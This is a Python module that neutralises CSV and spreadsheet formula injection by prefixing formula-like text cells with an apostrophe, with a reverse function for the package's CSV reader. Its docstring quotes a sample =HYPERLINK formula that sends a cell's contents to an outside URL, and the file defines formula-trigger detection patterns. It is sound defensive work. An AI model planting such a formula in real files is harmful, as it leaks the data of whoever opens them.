"""Text a spreadsheet would run as a formula, made harmless (CSV injection, OWASP's rule).

A label such as ``=HYPERLINK("http://…?leak="&A1;"Klikk her")`` in a CSV or xlsx file is run by Excel
or LibreOffice when the file is opened.  Every text cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is therefore written as text: in CSV with a leading apostrophe (``'=HYPER…``),
which spreadsheets show as the plain text; in xlsx as a text cell marked "quote prefix".  A plain
number written as text (``-5``, ``+47``) and SSB's symbol ``-`` (nothing to report) are left as they are:
they run nothing.

The CSV rule is reversible, so samhandling's CSV reader gives back the text that was written: a text
that already starts with apostrophes followed by one of those characters gets one apostrophe more, and
the reader takes exactly one away.  The work is done with pyarrow compute on whole columns (on the
dictionary of a dictionary column), never cell by cell.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

__all__ = [
    "FORMULA_TRIGGERS",
    "is_formula_like",
    "neutralise_column",
    "neutralise_table",
    "neutralise_text",
    "restore_column",
    "restore_text",
]

#: The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_TRIGGER = r"[=+\-@\t\r]"
# a text that starts with apostrophes and then a trigger: it gets (or, read back, loses) one apostrophe
_ESCAPABLE = f"^'*{_TRIGGER}"
_ESCAPED = f"^'+{_TRIGGER}"
# texts that start with a trigger but run nothing: a plain number, and SSB's "-" (nothing to report)
_HARMLESS = r"^([-+]?(\d+([.,]\d*)?|[.,]\d+)([eE][-+]?\d+)?|-)$"
_ESCAPABLE_RE = re.compile(_ESCAPABLE)
_ESCAPED_RE = re.compile(_ESCAPED)
_HARMLESS_RE = re.compile(_HARMLESS)


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would treat ``text`` as a formula (see the module docstring)."""
    return bool(text) and text[0] in FORMULA_TRIGGERS and _HARMLESS_RE.match(text) is None


def neutralise_text(name: str) -> str:
    """One text (a CSV header, a cell written cell by cell) with an apostrophe in front if it looks like
    a formula; the per-value form of :func:`neutralise_column`."""
    return "'" + name if _ESCAPABLE_RE.match(name) and not _HARMLESS_RE.match(name) else name


def restore_text(name: str) -> str:
    """The inverse of :func:`neutralise_text`: one leading apostrophe taken away where one was put."""
    return name[1:] if _ESCAPED_RE.match(name) else name


def _text_type(data_type: pa.DataType) -> bool:
    return bool(pa.types.is_string(data_type) or pa.types.is_large_string(data_type))


# a function from text values (an Array or a ChunkedArray) to changed values, or None for "unchanged"
_Change = Callable[[Any], Any]


_TRIGGER_BYTES = np.frombuffer("".join(FORMULA_TRIGGERS).encode() + b"'", dtype=np.uint8)
_APOSTROPHE = np.frombuffer(b"'", dtype=np.uint8)


def _starts_with_any(values: pa.Array | pa.ChunkedArray, first: np.ndarray) -> bool:
    """Whether any value starts with one of the bytes ``first``: one numpy lookup of each value's first
    byte in the character buffer, so the regular expressions run only on the rare column that needs them."""
    chunks = values.chunks if isinstance(values, pa.ChunkedArray) else [values]
    for chunk in chunks:
        if len(chunk) == 0:
            continue
        offset_type = np.int64 if pa.types.is_large_string(chunk.type) else np.int32
        _validity, offsets_buffer, data = chunk.buffers()
        if data is None:
            continue
        offsets: np.ndarray[Any, np.dtype[np.signedinteger[Any]]] = np.frombuffer(
            offsets_buffer,
            offset_type,
            count=len(chunk) + 1,
            offset=chunk.offset * np.dtype(offset_type).itemsize,
        )
        characters = np.frombuffer(data, np.uint8)
        starts = offsets[:-1][np.greater(offsets[1:], offsets[:-1])]  # non-empty values (nulls are empty)
        if starts.size and np.isin(characters[starts], first).any():
            return True
    return False


def _neutralise_strings(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray | None:
    """The values with apostrophes put in, or None when no value needs one (the common case)."""
    if not _starts_with_any(values, _TRIGGER_BYTES):
        return None
    escapable = pc.match_substring_regex(values, _ESCAPABLE)
    if not pc.any(escapable).as_py():
        return None
    needs = pc.and_(escapable, pc.invert(pc.match_substring_regex(values, _HARMLESS)))
    if not pc.any(needs).as_py():
        return None
    prefixed = pc.binary_join_element_wise(pa.scalar("'", values.type), values, "")
    return pc.if_else(pc.fill_null(needs, False), prefixed, values)


def _restore_strings(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray | None:
    if not _starts_with_any(values, _APOSTROPHE):
        return None
    escaped = pc.match_substring_regex(values, _ESCAPED)
    if not pc.any(escaped).as_py():
        return None
    return pc.if_else(pc.fill_null(escaped, False), pc.utf8_slice_codeunits(values, 1), values)


def _on_text(column: pa.ChunkedArray, change: _Change) -> pa.ChunkedArray:
    """``change`` applied to a text column, or to the dictionary of a dictionary-of-text column."""
    data_type = column.type
    if pa.types.is_dictionary(data_type) and _text_type(data_type.value_type):
        chunks = []
        changed = False
        for chunk in column.chunks:
            dictionary = change(chunk.dictionary)
            if dictionary is None:
                chunks.append(chunk)
                continue
            changed = True
            chunks.append(pa.DictionaryArray.from_arrays(chunk.indices, dictionary))
        return pa.chunked_array(chunks, data_type) if changed else column
    if _text_type(data_type):
        result = change(column)
        if result is None:
            return column
        return pa.chunked_array([result]) if isinstance(result, pa.Array) else result
    return column


def neutralise_column(column: pa.ChunkedArray) -> pa.ChunkedArray:
    """A text (or dictionary-of-text) column with every formula-like value prefixed with ``'``."""
    return _on_text(column, _neutralise_strings)


def restore_column(column: pa.ChunkedArray) -> pa.ChunkedArray:
    """The inverse of :func:`neutralise_column` (what samhandling's CSV reader applies)."""
    return _on_text(column, _restore_strings)


def neutralise_table(table: pa.Table, *, skip: tuple[str, ...] = ()) -> pa.Table:
    """Every text column of ``table`` (except those in ``skip``) through :func:`neutralise_column`."""
    columns = [
        column if name in skip else neutralise_column(column)
        for name, column in zip(table.column_names, table.columns, strict=True)
    ]
    return pa.Table.from_arrays(columns, schema=table.schema)
